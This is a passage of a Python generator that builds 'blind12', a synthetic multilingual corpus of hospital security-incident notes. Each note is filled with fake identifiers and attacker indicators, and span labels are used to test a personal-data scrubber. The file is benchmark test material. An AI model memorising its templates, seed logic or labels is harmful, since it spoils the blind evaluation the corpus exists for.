         order="gs", date=lambda d: dmy(d, "-"), org=lambda c: f"Sikehûs {c}", tld="nl",
         phone=lambda: ch([f"058 {digits(3)} {digits(4)}", f"06-{digits(8)}", f"+31 6 {digits(8)}"]),
         natid=lambda: (_bsn(), "SSN"), zip=lambda: f"{R.randint(84, 92)}{digits(2)} {upper(2)}",
         street=lambda: f"{ch(['Tsjerkestrjitte', 'Nieuwestad', 'Easterein', 'Skilwiid', 'Harlingerstrjitwei'])} {R.randint(1, 160)}",
         labels=["Namme", "Bertedatum", "BSN", "Telefoan", "Adres"],
         subject="Melding feiligensynsidint",
         k1="Der kaam in e-mail fan {AE} op namme fan pasjint {P} (MRN {H}). Der waard frege om it medysk dossier en in keppeling {U} stjoerd.",
         k2="Pasjint {P} (berne {D}, telefoan {PH}) waard belle fan {AP}. De beller sei dat er fan de finansjele ôfdieling fan {ORG} wie en frege om it BSN {N}.",
         k3="Meiwurker {S} (brûkersnamme {UN}) hat it dossier fan syn buorman {P}, wenjend oan {A}, {C}, sûnder wurkreden iepene."),
    dict(code="eo", locale="eo_PL", name="Esperanto",
         given=["Bartłomiej", "Agnieszka", "Tomasz", "Ewelina", "Zbigniew", "Halina", "Kazimierz", "Jadwiga"],
         sur=["Zamojski", "Kowalczyk", "Wiśniewska", "Grabowski", "Lewandowska", "Pietrzak", "Sikorska", "Wróblewski"],
         cities=["Białystok", "Łódź", "Lublin", "Poznań", "Kraków", "Toruń"],
         order="gs", date=lambda d: f"{d.day:02d}.{d.month:02d}.{d.year}", org=lambda c: f"Malsanulejo de {c}", tld="pl",
         phone=lambda: ch([f"+48 {ch('5678')}{digits(2)} {digits(3)} {digits(3)}", f"{ch('5678')}{digits(2)}-{digits(3)}-{digits(3)}"]),
         natid=lambda: (_pesel(), "SSN"), zip=lambda: f"{R.randint(10, 99)}-{digits(3)}",
         street=lambda: f"ul. {ch(['Zamenhofa', 'Lipowa', 'Sienkiewicza', 'Piotrkowska', 'Długa'])} {R.randint(1, 120)}",
         labels=["Nomo", "Naskiĝdato", "PESEL", "Telefono", "Adreso"],
         subject="Raporto pri sekureca okazaĵo",
         k1="Retmesaĝo venis de {AE} en la nomo de la paciento {P} (MRN {H}). Ĝi petis la medicinajn dosierojn kaj sendis ligilon {U}.",
         k2="La paciento {P} (naskiĝis {D}, telefono {PH}) ricevis vokon de {AP}. La vokanto diris, ke li estas el la faktura fako de {ORG}, kaj petis la PESEL-numeron {N}.",
         k3="La dungito {S} (uzantnomo {UN}) malfermis la dosieron de sia najbaro {P}, loĝanta ĉe {A}, {C}, sen labora kialo."),
]


class LangOrg(Org):
    def __init__(self, L):
        self.cc = L["code"]
        city = ch(L["cities"])
        self.name = L["org"](city)
        code = L.get("domain_code") or ind.slug(city)[:10]
        self.short = (ind.slug(city)[:4] or L["code"]).upper()
        self.domain = f"{code}{R.randint(2, 98)}.{L['tld']}"
        self.ustyle = R.randrange(3)
        self.host_pre = ch(["WS-", "PC", "HOSP-"])


def lang_person(L):
    g, s = ch(L["given"]), ch(L["sur"])
    o = L["order"]
    if o == "gs":
        full = f"{g} {s}"
    elif o == "sg":
        full = f"{s} {g}"
    elif o == "SG":
        full = f"{s.upper()} {g}"
    elif o == "gss":
        s2 = ch(L["sur"])
        full = f"{g} {s} {s2}"
    else:  # Tibetan: two names written together
        full = f"{g}{s}"
    p = {"first": g, "last": s, "full": full, "phone": L["phone"](), "dob": dob(),
         "street": L["street"](), "city": ch(L["cities"])}
    p["natid"], p["natid_t"] = L["natid"]()
    p["zip"] = L["zip"]() if L["zip"] else None
    return p


def lang_staff(L):
    if "staff" in L:
        g, s = ch(L["staff"])
        return {"first": g, "last": s, "full": f"{g} {s}"}
    return lang_person(L)


def lang_doc(L, o, d):
    p = lang_person(L)
    st = lang_staff(L)
    kind = R.randrange(3)
    addr = Doc().put(I(p["street"], "ADDRESS"))
    city = Doc().put(I(p["city"], "CITY"))
    if p["zip"]:
        city = Doc().put(I(p["zip"], "ZIP")).t(" ").put(I(p["city"], "CITY")) if L["code"] in ("fy", "eo", "br") else \
            Doc().put(I(p["city"], "CITY")).t(" ").put(I(p["zip"], "ZIP"))
    slots = dict(P=I(p["full"], "NAME"), H=I(digits(R.choice([6, 7, 8])), "MRN"), D=I(L["date"](p["dob"]), "DATE"),
                 PH=I(p["phone"], "PHONE"), N=I(p["natid"], p["natid_t"]),
                 AP=X(L["phone"](), "PHONE_ATTACKER"), AE=aemail(), U=urlx(), ORG=I(o.name, "ORG"),
                 S=I(st["full"], "NAME"), UN=I(o.user(st), "USERNAME"), A=addr, C=city)
    body = Doc().fill(L["k" + str(kind + 1)], **slots)
    frame = R.randrange(4)
    ioc = None
    if R.random() < 0.6:
        ioc = Doc().t("IOC: ").put(ipx()).t(", ").put(dom())
        if R.random() < 0.5:
            ioc.t(", ").put(sha())
        if R.random() < 0.3:
            ioc.t(", ").put(malw())
        if R.random() < 0.2:
            ioc.t(", BTC ").put(X("bc1q" + "".join(ch(BECH) for _ in range(38)), "WALLET"))
    lab = L["labels"]
    if frame == 0:
        d.put(N(L["date"](when().date()), "EVENTDATE")).t("\n\n").put(body).t("\n")
    elif frame == 1:
        d.t(f"{lab[0]}: ").put(I(p["full"], "NAME")).t(f"\n{lab[1]}: ").put(I(L["date"](p["dob"]), "DATE"))
        d.t(f"\n{lab[2]}: ").put(I(p["natid"], p["natid_t"])).t(f"\n{lab[3]}: ").put(I(p["phone"], "PHONE"))
        d.t(f"\n{lab[4]}: ").put(I(p["street"], "ADDRESS")).t(", ").put(city).t("\n\n").put(body).t("\n")
    elif frame == 2:
        d.t("From: ").put(I(st["full"], "NAME")).t(" <").put(I(o.email(st), "EMAIL")).t(">\nTo: security@").put(I(o.domain, "HOSTNAME"))
        d.t("\nDate: ").put(N(when().strftime("%d %b %Y %H:%M"), "MAILTIME")).t("\nSubject: " + L["subject"] + "\n\n").put(body)
        d.t("\n\n--\n").put(I(st["full"], "NAME")).t("\n").put(I(o.name, "ORG")).t("\n").put(I(lang_person(L)["phone"], "PHONE")).t("\n")
    else:
        t = when()
        d.t("[").put(N(t.strftime("%H:%M"), "LOGTIME")).t("] ").put(I(o.user(st), "USERNAME")).t(": ").put(body).t("\n")
        d.t("[").put(N((t + dt.timedelta(minutes=R.randint(1, 9))).strftime("%H:%M"), "LOGTIME")).t("] soc-oncall: ok, ticket " + digits(6) + "\n")
    if ioc:
        d.put(ioc).t("\n")


# ---------------------------------------------------------------------------------------------
# build


def styles():
    out = [(name, fn, "US") for name, fn in MACHINE]
    out += PAPER
    out += [(f"incident-note-{L['code']}", L, L["locale"]) for L in LANGS]
    return out


def parse_check(style, text):
    if style.endswith("-jsonl"):
        for line in text.splitlines():
            if line.strip():
                json.loads(line)
    if style.endswith("-xml"):
        import xml.etree.ElementTree as ET
        ET.fromstring(text.split("?>", 1)[1] if text.startswith("<?xml") else text)


def build():
    records = []
    n = 0
    for style, fn, loc in styles():
        for _ in range(PER_STYLE):
            n += 1
            doc_id = f"blind12-{n:04d}"
            for attempt in range(60):
                d = Doc()
                if isinstance(fn, dict):
                    o = LangOrg(fn)
                    lang_doc(fn, o, d)
                    locale = fn["locale"]
                else:
                    o = Org(loc if loc != "US" else "US")
                    fn(o, d)
                    locale = {"US": "en_US", "GB": "en_GB", "CA": "en_CA", "AU": "en_AU",
                              "IE": "en_IE", "IN": "en_IN", "NG": "en_NG", "PH": "en_PH",
                              "ZA": "en_ZA", "SG": "en_SG"}[loc]
                rec = spandoc.record(doc_id, d, style, locale, o.doc_org())
                err = self_test(rec, d)
                if err is None:
                    parse_check(style, rec["text"])
                    break
            else:
                raise AssertionError(f"{doc_id} {style}: no clean draw ({err})")
            records.append(rec)
    return records


NOTES = ("blind12: written without opening the scrubber, its results, score.py, the other "
         "generators or any corpus's documents; frozen before any scrubber was run on it (see "
         "README.md). Styles: 19 machine-made (US organizations), 19 paperwork and messages in "
         "English from eight other countries, 19 languages (incident-note-*), 7 documents each.")


def main():
    check = "--check" in sys.argv[1:]
    records = build()
    os.makedirs(OUT_DIR, exist_ok=True)
    if check:
        import tempfile
        with tempfile.TemporaryDirectory() as tmp:
            c, m = os.path.join(tmp, "c.jsonl"), os.path.join(tmp, "m.md")
            spandoc.write_corpus(c, records)
            spandoc.manifest(m, "blind12 — manifest", "blind12/blind12.jsonl", SEED,
                             "gen/gen_blind12.py", records, NOTES)
            ok = True
            for new, old in ((c, CORPUS), (m, MANIFEST)):
                with open(new, "rb") as a, open(old, "rb") as b:
                    same = a.read() == b.read()
                print(("same     " if same else "DIFFERS  ") + os.path.relpath(old, os.path.join(HERE, "..")))
                ok &= same
            with open(CORPUS, "rb") as f:
                print("sha256", hashlib.sha256(f.read()).hexdigest())
        print(f"self-test passed on {len(records)} documents")
        sys.exit(0 if ok else 1)
    sha = spandoc.write_corpus(CORPUS, records)
    spandoc.manifest(MANIFEST, "blind12 — manifest", "blind12/blind12.jsonl", SEED,
                     "gen/gen_blind12.py", records, NOTES)
    ids = sum(len(r["identifiers"]) for r in records)
    inds = sum(len(r["indicators"]) for r in records)
    neus = sum(len(r.get("neutral", [])) for r in records)
    print(f"{len(records)} documents, {len(set(r['style'] for r in records))} styles, "
          f"{ids} identifiers, {inds} indicators, {neus} neutral; sha256 {sha}")


if __name__ == "__main__":
    main()
